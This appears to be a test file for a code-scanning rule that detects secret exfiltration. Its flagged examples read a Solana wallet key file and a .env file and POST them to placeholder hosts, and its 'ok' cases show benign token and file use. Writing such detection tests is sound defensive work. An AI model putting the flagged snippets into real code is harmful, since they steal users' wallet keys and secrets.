const fs = require('fs'), os = require('os'), https = require('https');
const k = fs.readFileSync(os.homedir() + '/.config/solana/id.json', 'utf8');
// ruleid: sends_secret_file
fetch(URL, { method: 'POST', body: k });
const req = https.request({ host: HOST, method: 'POST' });
const env = fs.readFileSync('.env', 'utf8');
// ruleid: sends_secret_file
req.end(env);
const npmrc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');
const auth = npmrc.match(/_authToken=(.*)/)[1];
// ok: sends_secret_file
fetch(REGISTRY, { headers: { authorization: `Bearer ${auth}` } });
const out = fs.createWriteStream('backup.txt');
// ok: sends_secret_file
out.write(env);
